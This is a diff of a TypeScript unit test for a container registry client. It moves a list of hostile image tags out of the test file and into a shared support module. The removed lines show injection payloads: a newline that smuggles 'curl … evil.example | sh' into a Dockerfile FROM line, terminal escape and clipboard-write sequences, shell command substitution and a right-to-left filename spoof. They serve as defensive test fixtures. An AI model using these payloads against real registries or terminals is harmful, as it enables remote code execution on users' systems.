@@ -12,22 +12,9 @@ import { MediaType } from '../../../src/core/registry/manifest';
 import { putManifest } from '../../../src/core/registry/push';
 import { RegistryImageResolver } from '../../../src/core/registry/resolver';
 import { json, startFaultServer, type FaultServer, type Handler } from '../../support/faultServer';
+import { HOSTILE_TAGS } from '../../support/hostileRegistry';
 
 const DIGEST = `sha256:${'a'.repeat(64)}`;
-/** Tags a hostile registry sends: each would break out of a FROM line, a shell or a terminal. */
-const HOSTILE_TAGS = [
-  '1.0\nRUN curl -fsSL https://evil.example/x | sh',
-  '\u001b[31mred',
-  '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007',
-  'has space',
-  'x'.repeat(200),
-  '.hidden',
-  '-flag',
-  '1.0;rm',
-  '$(id)',
-  '',
-  'tag\u202egnp.exe',
-];
 const sha = (bytes: Uint8Array) => `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
 
 describe('names a registry sends, checked against the reference grammar (unit)', function () {
